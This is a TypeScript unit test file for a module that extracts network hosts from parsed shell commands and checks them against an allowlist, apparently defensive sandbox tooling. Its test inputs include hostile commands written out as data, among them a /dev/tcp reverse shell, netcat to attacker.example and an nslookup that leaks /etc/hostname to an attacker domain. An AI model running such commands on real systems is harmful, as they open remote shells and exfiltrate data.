import { parseShell } from '../shell/shell-parser';
import { commandHosts, hostAllowed, isLoopback, normalizeHost, urlHosts } from './network-hosts';

const hostsOf = (script: string) =>
  parseShell(script)
    .commands.flatMap(commandHosts)
    .map((m) => m.host);

describe('network hosts', () => {
  it('finds hosts in URLs, scp-like targets, /dev/tcp and host-first tools', () => {
    expect(hostsOf('curl -H "a: b" https://user:pw@Evil.Example:8443/x')).toEqual(['evil.example']);
    expect(hostsOf('wget -O- example.org/i.sh')).toEqual(['example.org']);
    expect(hostsOf('git clone git@gitlab.example.com:org/repo.git')).toEqual(['gitlab.example.com']);
    expect(hostsOf('scp -P 22 f deploy@10.0.0.5:/srv')).toEqual(['10.0.0.5']);
    expect(hostsOf('bash -i >& /dev/tcp/203.0.113.1/4444 0>&1')).toEqual(['203.0.113.1']);
    expect(hostsOf('nc -w 3 attacker.example 80')).toEqual(['attacker.example']);
    expect(hostsOf('ping -c 1 8.8.8.8')).toEqual(['8.8.8.8']);
    expect(hostsOf('socat - TCP:relay.example:443')).toEqual(['relay.example']);
    expect(hostsOf('socat TCP4-CONNECT:relay.example:443 -')).toEqual(['relay.example']);
    expect(hostsOf('gawk \'BEGIN { s = "/inet/tcp/0/relay.example/80"; print "x" |& s }\'')).toEqual(['relay.example']);
    expect(hostsOf('curl http://[2001:db8::1]/')).toEqual(['2001:db8::1']);
  });

  it('reads no host in an address that listens on this machine', () => {
    expect(hostsOf('socat TCP-LISTEN:8080,fork TCP:localhost:3000')).toEqual(['localhost']);
    expect(hostsOf('socat UDP4-LISTEN:5353 -')).toEqual([]);
    expect(hostsOf('gawk \'BEGIN { s = "/inet/tcp/8080/0/0" }\'')).toEqual([]);
  });

  it('keeps the known part of a host computed at run time', () => {
    expect(hostsOf('nslookup $(cat /etc/hostname).attacker.example')).toEqual(['attacker.example']);
  });

  it('ignores URLs that are only text', () => {
    expect(hostsOf('echo https://evil.example; git commit -m "see https://evil.example"; grep -r http://x.example .')).toEqual([]);
  });

  it('normalizes and recognises loopback', () => {
    expect(normalizeHost('[::1]')).toBe('::1');
    expect(normalizeHost('Example.COM.')).toBe('example.com');
    expect(['localhost', 'api.localhost', '127.8.0.1', '::1', '0.0.0.0'].every(isLoopback)).toBe(true);
    expect(isLoopback('10.0.0.1')).toBe(false);
    expect(urlHosts('see http://a.example/x and ftp://b.example')).toEqual([
      { host: 'a.example', word: 'http://a.example' },
      { host: 'b.example', word: 'ftp://b.example' },
    ]);
  });

  it('matches exact hosts, *.domain for subdomains only, and *', () => {
    expect(hostAllowed('github.com', ['github.com'])).toBe(true);
    expect(hostAllowed('api.github.com', ['github.com'])).toBe(false);
    expect(hostAllowed('a.b.example.com', ['*.example.com'])).toBe(true);
    expect(hostAllowed('example.com', ['*.example.com'])).toBe(false);
    expect(hostAllowed('badexample.com', ['*.example.com'])).toBe(false);
    expect(hostAllowed('github.com.evil.example', ['github.com'])).toBe(false);
    expect(hostAllowed('anything.example', ['*'])).toBe(true);
    expect(hostAllowed('GitHub.COM', ['github.com.'])).toBe(true);
  });
});
